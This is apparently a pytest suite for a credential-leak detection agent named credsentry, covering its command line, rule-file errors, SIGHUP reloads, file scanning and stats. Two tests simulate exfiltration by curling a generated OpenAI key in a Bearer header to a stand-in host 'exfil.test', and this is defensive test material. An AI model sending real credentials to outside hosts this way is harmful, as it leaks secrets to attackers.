"""The agent's command line as an operator meets it: --version, --check, broken rules at start
and on SIGHUP."""

import json
import re
import shutil
import signal
import subprocess
import time

import pytest

from kharness import env

# yaml-cpp reports this at line 4 (1-based): the mis-indented key ends the map early.
BROKEN_RULE = """\
kinds:
  - id: kernel-test-broken
    provider: test
  pattern: "x"
    name: broken on purpose
"""
BROKEN_LINE = 4


def _run_agent(binary, *args, timeout=30):
    proc = subprocess.run([str(binary), *args], capture_output=True, text=True, timeout=timeout,
                          stdin=subprocess.DEVNULL)
    return proc.returncode, proc.stdout + proc.stderr


def _names_file_and_line(text: str, filename: str, line: int) -> bool:
    pattern = re.escape(filename) + rf"(:{line}\b|\D{{0,20}}line {line}\b)"
    return re.search(pattern, text) is not None


def _rules_copy(scratch):
    rules = scratch / "rules"
    shutil.copytree(env.DEFAULT_RULES, rules)
    return rules


def test_version_prints_name_and_version(agent_binary):
    rc, out = _run_agent(agent_binary, "--version")
    assert rc == 0, out
    assert "credsentry" in out.lower()
    assert re.search(r"\b\d+\.\d+\.\d+\b", out), out


def test_check_names_kernel_features_and_exits_zero(agent_binary):
    # --check also validates the rules it would use: give it the repo's (no /etc install here).
    rc, out = _run_agent(agent_binary, "--check", "--rules", str(env.DEFAULT_RULES))
    assert rc == 0, out
    lowered = out.lower()
    for feature, pattern in {"BTF": r"\bbtf\b", "ring buffer": r"ring ?buf",
                             "tracepoints": r"tracepoint", "uprobes": r"uprobe"}.items():
        assert re.search(pattern, lowered), f"--check does not mention {feature}:\n{out}"


def test_malformed_rules_dir_fails_start_naming_file_and_line(agent_binary, cgroup, scratch):
    rules = _rules_copy(scratch)
    (rules / "zz-broken.yaml").write_text(BROKEN_RULE)
    ready = scratch / "ready"
    try:
        rc, out = _run_agent(agent_binary, "--cgroup", str(cgroup.path), "--rules", str(rules),
                             "--alerts-file", str(scratch / "alerts"), "--ready-file",
                             str(ready))
    except subprocess.TimeoutExpired:
        pytest.fail("agent kept running with a malformed rules dir (want: exit non-zero)")
    assert rc != 0, f"agent accepted a malformed rule file:\n{out[-3000:]}"
    assert not ready.exists(), "agent reported ready with a malformed rules dir"
    assert _names_file_and_line(out, "zz-broken.yaml", BROKEN_LINE), (
        f"error does not name zz-broken.yaml line {BROKEN_LINE}:\n{out[-3000:]}")


def test_sighup_with_broken_rule_keeps_old_rules_and_logs_error(
        start_agent, clients, https_server, curl, registry, scratch):
    rules = _rules_copy(scratch)
    agent = start_agent(rules_dirs=[rules])
    (rules / "zz-broken.yaml").write_text(BROKEN_RULE)
    agent.signal(signal.SIGHUP)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not _names_file_and_line(
            agent.log_text(), "zz-broken.yaml", BROKEN_LINE):
        time.sleep(0.1)
    assert _names_file_and_line(agent.log_text(), "zz-broken.yaml", BROKEN_LINE), (
        f"reload error naming zz-broken.yaml:{BROKEN_LINE} not logged\n{agent.diagnostics()}")
    assert agent.running(), "agent died on a bad reload"

    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    clients.run(curl.https(https_server, "exfil.test", "/v1/chat") + ["-H", f"@{headers}",
                                                                       "-d", "{}"])
    alerts = agent.wait_for_alerts(lambda a: a.get("secret", {}).get("provider") == "openai",
                                   timeout=5.0)
    assert alerts, f"old rules not in force after a failed reload\n{agent.diagnostics()}"


def test_scan_reports_findings_redacted_with_exit_codes(agent_binary, registry, scratch):
    key = registry.new("anthropic")
    dirty = scratch / "settings.env"
    dirty.write_text(f"LOG_LEVEL=debug\nANTHROPIC_API_KEY={key}\n")
    clean = scratch / "clean.txt"
    clean.write_text("nothing to see here\n")

    rules = ["--rules", str(env.DEFAULT_RULES)]
    rc, out = _run_agent(agent_binary, "scan", *rules, str(dirty))
    registry.watch_text("scan output (dirty file)", out)
    assert rc == 1, f"scan of a file holding a key exited {rc}:\n{registry.redact(out)[-2000:]}"
    findings = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    assert any(f.get("secret", f).get("provider") == "anthropic" for f in findings), (
        registry.redact(out)[-2000:])

    rc, out = _run_agent(agent_binary, "scan", *rules, str(clean))
    assert rc == 0, out[-2000:]
    rc, out = _run_agent(agent_binary, "scan", *rules, str(scratch / "missing.txt"))
    assert rc == 2, out[-2000:]
    assert "missing.txt" in out


def test_stats_file_counts_alerts_and_drops_and_survives_exit(
        agent, clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    clients.run(curl.https(https_server, "exfil.test", "/v1") + ["-H", f"@{headers}", "-d", "{}"])
    assert agent.wait_for_alerts(timeout=5.0), agent.diagnostics()
    assert agent.stop() == 0, agent.diagnostics()
    counters = agent.flat_stats()
    assert counters, f"stats file {agent.stats_file} missing or not a JSON object after exit"
    assert any("alert" in k and isinstance(v, int) and v >= 1 for k, v in counters.items()), (
        f"no alert counter >= 1: {counters}")
    assert any("drop" in k or "lost" in k for k in counters), f"no drop counters: {counters}"
